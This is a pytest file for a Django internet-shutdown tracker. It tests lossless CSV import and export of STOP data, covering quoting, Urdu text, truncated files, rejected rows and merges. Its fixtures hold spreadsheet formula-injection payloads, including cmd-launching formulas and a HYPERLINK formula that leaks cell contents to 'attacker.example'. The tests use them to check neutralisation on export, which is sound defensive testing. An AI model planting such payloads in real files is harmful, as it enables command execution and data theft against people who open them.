"""Lossless interchange on a hand-made sheet of edge cases: separators, quotes, formulas,
Urdu, blank against "No", repeat rows; a file cut short; the editor's options; merges."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.db import transaction

from drmonitor.tracker.models import Actor, Country, Incident, Service, StopRow
from drmonitor.tracker.stop.cells import restore
from drmonitor.tracker.stop.columns import STOP_COLUMNS
from drmonitor.tracker.stop.export import export_rows, write_csv
from drmonitor.tracker.stop.importer import import_stop

pytestmark = pytest.mark.django_db

BASE = {
    "start_date": "2024-02-17 00:00:00.000000",
    "country": "Pakistan",
    "shutdown_type": "Shutdown",
    "shutdown_extent": "Service-based",
    "count_year": "2024",
}
EDGE_CASES = [
    {  # links with ";" and "," inside, a quote, a line break, blank and "No" side by side
        **BASE,
        "area_name": "Islamabad, Rawalpindi; Lahore",
        "info_source_link": "https://example.org/a;b=1,c; https://example.org/q?x=1;y=2",
        "event": 'The minister said "no".\nThen the service came back.',
        "facebook_affected": "No",
        "twitter_affected": "Yes",
        "whatsapp_affected": "",
        "legal_just": "Unknown",
        "other_affected": "possibly, and YouTube",
        "duration": "-363",
    },
    {  # formulas a spreadsheet would run, and an apostrophe that must survive
        **BASE,
        "start_date": "2024-03-01 00:00:00.000000",
        "area_name": "=cmd|' /C calc'!A0",
        "event": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
        "gov_just_details": "+SUM(1,2)",
        "legal_method": "@cmd|'/c notepad'!A1",
        "actual_cause_details": "-2+3",
        "telco_ack_quote": "\tleading tab",
    },
    {  # Urdu, spaces STOP left, a territory ISO does not list, STOP's blank date type
        **BASE,
        "start_date": "2023-05-09 00:00:00.000000",
        "country": "Somaliland",
        "area_name": "  لاہور اور کراچی  ",
        "gov_ack_quote": "انٹرنیٹ سروس معطل کر دی گئی",
        "shutdown_type": "Shutdown, Throttle",
        "start_date_type": "",
    },
    # STOP's repeat rows: one event over two years, once a year.
    {
        **BASE,
        "start_date": "2024-11-01 00:00:00.000000",
        "country": "El Salvador",
        "count_year": "2024",
    },
    {
        **BASE,
        "start_date": "2024-11-01 00:00:00.000000",
        "country": "El Salvador",
        "count_year": "2025",
    },
]


def sheet(rows, columns=STOP_COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def exported() -> str:
    out = io.StringIO()
    write_csv(out, export_rows(Incident.objects.order_by("start_date", "slug"), "https://t.test"))
    return out.getvalue()


def stop_rows_of(text: str, undo_formula_rule: bool) -> list[tuple]:
    rows = csv.DictReader(io.StringIO(text, newline=""))
    fix = restore if undo_formula_rule else str
    return sorted(tuple(fix(row[c]) for c in STOP_COLUMNS) for row in rows)


def test_edge_cases_come_back_as_written_and_round_trip_byte_for_byte():
    original = sheet(EDGE_CASES)
    empty = transaction.savepoint()
    report = import_stop(original, commit=True)
    assert report.committed, report.as_text()
    assert Incident.objects.count() == 4 and StopRow.objects.count() == 5
    assert [r.action for r in report.rows][-2:] == ["repeat", "create"]

    first = exported()
    # Every STOP cell is back as written, once the export's formula rule is undone...
    assert stop_rows_of(first, undo_formula_rule=True) == stop_rows_of(original, False)
    # ...and that rule made no cell live: the export starts none with = + - @ or a tab.
    cells = [c for row in csv.reader(io.StringIO(first, newline="")) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'+SUM(1,2)" in cells
    assert "'\tleading tab" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t")]
    assert "-363" in cells  # a number is not a formula
    x = Incident.objects.get(start_date="2024-02-17")
    assert x.summary.startswith("The minister said")
    assert [s.name for s in x.services.all()] == ["X"]  # flags only: "possibly" is no service
    assert not Service.objects.filter(name__in=["possibly", "and YouTube"]).exists()
    assert {s.url for s in x.sources.all()} == {
        "https://example.org/a;b=1,c",
        "https://example.org/q?x=1;y=2",
    }
    formula = Incident.objects.get(start_date="2024-03-01")
    assert formula.areas == "=cmd|' /C calc'!A0"  # stored as typed, neutralised only on export
    assert Incident.objects.get(start_date="2023-05-09").country.name == "Somaliland"

    transaction.savepoint_rollback(empty)
    assert import_stop(first, commit=True).committed
    second = exported()
    assert second == first


def test_a_formula_an_editor_types_round_trips_without_becoming_live():
    import_stop(sheet(EDGE_CASES[:1]), commit=True)
    ours = Incident.objects.get()
    ours.stop_rows.all().delete()  # a record of ours, not STOP's
    ours.summary = '=HYPERLINK("http://attacker.example","x")'
    ours.areas = "'=typed with its own apostrophe"
    ours.save()
    first = exported()
    assert "'=HYPERLINK(" in first and ",=HYPERLINK(" not in first
    assert "''=typed with its own apostrophe" in first
    Incident.objects.all().delete()
    assert import_stop(first, commit=True).committed
    assert Incident.objects.get().summary == '=HYPERLINK("http://attacker.example","x")'
    assert Incident.objects.get().areas == "'=typed with its own apostrophe"
    assert exported() == first


def test_a_file_cut_short_is_refused_with_its_line():
    text = sheet(EDGE_CASES)
    cut = text[: text.index("The minister said") + 10]  # inside the quoted cell of line 2
    report = import_stop(cut, commit=True)
    assert report.file_errors == [
        "Line 2: a quoted cell that starts in this row never ends; the file looks cut short. "
        "Nothing was imported."
    ]
    assert not report.rows and not Incident.objects.exists()
    short = text.rstrip("\r\n") + "\r\n" + ",".join(["x"] * 10) + "\r\n"
    report = import_stop(short, commit=True)
    assert report.file_errors[0].startswith("Line 8: the row has 10 cells where the header has 47")
    assert not Incident.objects.exists()


def test_rows_with_errors_can_be_skipped_and_come_back_to_fix():
    bad = {**BASE, "country": "Atlantis", "start_date": "2024-01-01"}
    # Fails only when checked against our model, after naming a new actor and service.
    contradictory = {
        **BASE,
        "telegram_affected": "Yes",
        "end_date": "2024-03-01",
        "drm_status": "Ongoing",
        "drm_decision_maker": "A ministry nobody recorded",
    }
    columns = [*STOP_COLUMNS, "drm_status", "drm_decision_maker"]
    text = sheet([EDGE_CASES[0], bad, contradictory], columns)
    assert not import_stop(text, commit=True).committed  # all or nothing by default
    assert not Incident.objects.exists()
    report = import_stop(text, commit=True, skip_errors=True)
    assert report.committed and Incident.objects.count() == 1
    assert "2 rows with errors skipped" in report.summary()
    rejected = list(csv.DictReader(io.StringIO(report.rejected_csv)))
    assert [r["country"] for r in rejected] == ["Atlantis", "Pakistan"]
    assert rejected[0]["import_errors"] == 'country: Unknown country "Atlantis".'
    assert "cannot be ongoing" in rejected[1]["import_errors"]
    # The rows left out left nothing behind.
    assert not Actor.objects.exists() and not Service.objects.filter(name="Telegram").exists()


def test_a_row_close_to_one_of_our_records_is_a_merge_not_a_duplicate():
    pakistan = Country.objects.create(code="PK", name="Pakistan")
    x_service = Service.objects.create(name="X")
    ours = Incident.objects.create(
        title="X blocked in Pakistan",
        slug="x-blocked-in-pakistan",
        kind="platform_block",
        country=pakistan,
        start_date=datetime.date(2024, 2, 18),  # STOP says the 17th
        summary="Our editors' words.",
    )
    ours.services.add(x_service)
    ours.save()
    row = {**EDGE_CASES[0], "event": "STOP's words."}
    dry = import_stop(sheet([row]), commit=False)
    assert dry.rows[0].action == "merge" and dry.rows[0].merge_into == "X blocked in Pakistan"
    assert import_stop(sheet([row]), commit=True).committed
    assert Incident.objects.count() == 1
    ours.refresh_from_db()
    assert ours.start_date == datetime.date(2024, 2, 18) and ours.summary == "Our editors' words."
    assert ours.stop_rows.get().cells["event"] == "STOP's words."
    again = import_stop(sheet([row]), commit=False)  # found again by its STOP identity
    assert again.rows[0].action == "unchanged"
    separate = import_stop(sheet([row]), commit=False, merge=False)
    assert separate.rows[0].action == "unchanged"  # already joined; only new rows may stay apart
